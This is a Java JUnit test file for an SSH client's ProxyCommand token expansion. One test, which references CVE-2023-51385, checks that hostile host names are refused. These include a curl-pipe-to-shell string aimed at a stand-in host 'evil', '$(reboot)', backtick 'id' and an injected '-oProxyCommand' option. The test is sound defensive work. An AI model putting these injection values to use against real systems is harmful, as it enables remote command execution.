// SPDX-License-Identifier: Apache-2.0
package org.amiko.client;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import org.junit.jupiter.api.Test;

/** ProxyCommand's tokens, as ssh_config(5) expands them. */
class ProxyCommandTest {
    @Test
    void hostPortAndPercentAreExpanded() {
        assertEquals("ssh -W db.internal:2222 bastion", ProxyCommand.expand("ssh -W %h:%p bastion", "db.internal", 2222));
        assertEquals("echo 100% %h", ProxyCommand.expand("echo 100%% %%h", "x", 1));
        assertEquals("trailing %", ProxyCommand.expand("trailing %", "x", 1));
    }

    /** CVE-2023-51385's kind: a host name from an untrusted source must not run commands. */
    @Test
    void aHostNameAShellWouldActOnIsRefused() {
        for (String host : new String[] {"x;curl evil|sh", "$(reboot)", "a b", "-oProxyCommand=x", "`id`", "h\nx", ""}) {
            assertThrows(IllegalArgumentException.class, () -> ProxyCommand.expand("ssh -W %h:%p bastion", host, 22),
                    host);
        }
        assertEquals("nc fe80::1%eth0 22", ProxyCommand.expand("nc %h %p", "fe80::1%eth0", 22));
    }

    @Test
    void aTokenNotKnownHereIsRefusedRatherThanPassedOn() {
        IllegalArgumentException refused = assertThrows(IllegalArgumentException.class,
                () -> ProxyCommand.expand("connect %r@%h", "x", 1));
        assertEquals("ProxyCommand token %r is not known here; %h, %p and %% are", refused.getMessage());
    }
}
